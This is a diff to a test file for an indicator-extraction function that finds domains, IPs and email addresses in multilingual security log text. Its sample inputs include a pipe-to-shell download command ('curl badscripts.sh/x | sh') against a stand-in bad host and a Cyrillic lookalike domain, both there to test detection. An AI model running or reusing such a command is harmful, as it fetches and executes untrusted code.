@@ -49,6 +49,22 @@ describe('scanText finds', () => {
     ['Account Name:\t\tWKS-10$\r\nAccount Domain:\t\tCORP', ['account WKS-10$']],
     ['ran as NT AUTHORITY\\NETWORK SERVICE', ['account NT AUTHORITY\\NETWORK SERVICE']],
     ['访问evil.com的主机', ['domain evil.com']],
+    [
+      '恶意域名cdn.badsite.cn，来源IP：185.10.20.30。下载b.badsite.cn。',
+      ['domain cdn.badsite.cn', 'ip 185.10.20.30', 'domain b.badsite.cn'],
+    ],
+    ['サーバーcdn.badsite.jpに接続', ['domain cdn.badsite.jp']],
+    ['ที่cdn.badsite.netและ', ['domain cdn.badsite.net']],
+    ['中国.cn, аpple.com', ['domain 中国.cn', 'domain аpple.com']],
+    ['Beacons to *.cdn.badsite.net!', ['domain cdn.badsite.net']],
+    [
+      'curl badscripts.sh/x | sh; GET badsite.pl/view/raw/2',
+      ['domain badscripts.sh', 'domain badsite.pl'],
+    ],
+    [
+      'From: <a@badsite.net>\nReferences: <x@badsite.net>\r\n <y@badsite.net>\nTo: <b@badsite.net>',
+      ['email a@badsite.net', 'email b@badsite.net'],
+    ],
     ['DNS query for stage.py resolved', ['domain stage.py']],
     [
       'type:  5 edge.badsite.net;type:  5 x.hwcdn.net;209.197.3.8;',
@@ -75,6 +91,8 @@ describe('scanText finds nothing', () => {
     'Chrome 131.0.0.0 on Windows',
     `uuid: ${md5} finding/${md5} thumbprint ${md5} deviceId=${md5}`,
     '00000000000000000000000000000000',
+    'opened mails.zip/invoice.exe, parts.cab/setup and Chat.app/Contents/Info',
+    'In-Reply-To: <x@badsite.net>',
     'Message-ID: <20240624211145.62086.mail@badsite.net>',
     'git clone git@github.com:org/repo',
     'user=- suser=N/A duser=null and user: S-1-5-18',
